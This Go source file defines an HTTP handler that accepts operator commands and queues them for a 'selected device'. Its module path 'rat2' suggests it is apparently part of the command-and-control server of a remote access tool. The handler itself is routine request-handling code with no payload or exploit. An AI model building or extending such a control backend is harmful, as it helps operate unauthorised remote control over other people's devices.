package handlers

import (
	"errors"
	"net/http"

	"github.com/MRSt3Ss/rat2/internal/models"
	"github.com/MRSt3Ss/rat2/internal/service"

	"github.com/gin-gonic/gin"
	"github.com/sirupsen/logrus"
)

// CommandHandler handles operator command submissions
type CommandHandler struct {
	service service.Service
	log     *logrus.Logger
}

// NewCommandHandler creates a new CommandHandler instance
func NewCommandHandler(svc service.Service, log *logrus.Logger) *CommandHandler {
	return &CommandHandler{
		service: svc,
		log:     log,
	}
}

// SubmitCommand formats and enqueues a command for the selected device.
func (h *CommandHandler) SubmitCommand(c *gin.Context) {
	var req models.CommandRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{
			"status":  "error",
			"message": "Invalid request format",
		})
		return
	}

	commandString, err := h.service.SubmitCommand(c.Request.Context(), req.Command, req.Params)
	if err != nil {
		if errors.Is(err, models.ErrNoDeviceSelected) {
			c.JSON(http.StatusBadRequest, gin.H{
				"status":  "error",
				"message": "No device selected",
			})
			return
		}
		h.log.WithError(err).Error("Failed to submit command")
		c.JSON(http.StatusInternalServerError, gin.H{
			"status":  "error",
			"message": "Failed to submit command",
		})
		return
	}

	c.JSON(http.StatusOK, gin.H{
		"status":  "success",
		"command": commandString,
	})
}
